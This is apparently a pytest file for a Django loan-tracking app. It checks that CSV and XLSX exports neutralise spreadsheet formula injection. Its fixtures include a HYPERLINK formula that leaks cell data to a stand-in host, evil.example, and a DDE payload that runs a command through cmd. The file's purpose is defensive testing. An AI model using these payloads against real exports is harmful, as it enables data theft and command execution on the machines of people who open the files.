"""Spreadsheet exports never carry a live formula: the one helper in core/tables.py, and every export that
uses it (board and portfolio CSV/XLSX, report CSV, import error CSV), read back as a spreadsheet would."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from core.tables import formula_like, spreadsheet_safe, xlsx_bytes
from loans.models import LoanImport
from tests.conftest import client_for
from tests.factories import LoanFactory, OpportunityFactory

NOW = dt.datetime(2026, 11, 22, 15, 0, tzinfo=dt.UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_like_text_is_prefixed_for_csv(value):
    assert formula_like(value)
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana O'Neil", "-12.50", "+3", "1e5", "", "a=b", Decimal("-12.50"), -3, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_xlsx_writes_formula_like_text_as_text_cells():
    content = xlsx_bytes(headers=["Name", "Amount"], rows=[[HYPERLINK, Decimal("-12.50")], ["@x", 3]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert sheet["A2"].value == HYPERLINK and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.fixture
def hostile(officer):  # type: ignore[no-untyped-def]
    """An opportunity whose imported borrower name and loan number are formulas."""
    with time_machine.travel(NOW, tick=False):
        loan = LoanFactory(
            loan_officer=officer,
            loan_number="@SUM(1+1)",
            borrower__first_name=HYPERLINK,
            borrower__last_name="Smith",
        )
        return OpportunityFactory(loan=loan)


def _content(response) -> bytes:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
@pytest.mark.parametrize("url", [reverse("pipeline:board"), reverse("loans:loan_list")])
def test_board_and_portfolio_csv_prefix_formula_cells(hostile, officer, url):
    with time_machine.travel(NOW, tick=False):
        content = _content(client_for(officer).get(url, {"_export": "csv"}))
    header, *body = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    borrower, number = body[0][header.index("Borrower")], body[0][header.index("Loan #")]
    assert borrower == f"'{HYPERLINK} Smith"
    assert number == "'@SUM(1+1)"
    assert all(not formula_like(cell) for row in body for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("url", [reverse("pipeline:board"), reverse("loans:loan_list")])
def test_board_and_portfolio_xlsx_have_no_formula_cells(hostile, officer, url):
    with time_machine.travel(NOW, tick=False):
        content = _content(client_for(officer).get(url, {"_export": "xlsx"}))
    assert b"<f>" not in _sheet_xml(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    borrower, number = row[header.index("Borrower")], row[header.index("Loan #")]
    assert (borrower.value, borrower.data_type) == (f"{HYPERLINK} Smith", "s")
    assert (number.value, number.data_type) == ("@SUM(1+1)", "s")
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


@pytest.mark.django_db
def test_report_csv_prefixes_an_officer_named_like_a_formula(hostile, officer):
    officer.display_name = "=1+2"
    officer.save()
    with time_machine.travel(NOW, tick=False):
        content = _content(client_for(officer).get(reverse("reports:report"), {"export": "officers"}))
    text = content.decode("utf-8")
    assert "'=1+2" in text and "\n=1+2" not in text and ",=1+2" not in text


@pytest.mark.django_db
def test_import_error_csv_prefixes_values_from_the_file(officer):
    loan_import = LoanImport.objects.create(
        organization=officer.organization,
        uploaded_by=officer.user,
        loan_officer=officer,
        filename="x.csv",
        format="csv",
        status="rejected",
        errors=[{"line": 2, "column": "loan_number", "loan_number": "=cmd()", "message": "-bad"}],
    )
    content = _content(client_for(officer).get(reverse("loans:import_errors_csv", args=[loan_import.pk])))
    assert list(csv.reader(io.StringIO(content.decode())))[1] == ["2", "loan_number", "'=cmd()", "'-bad"]
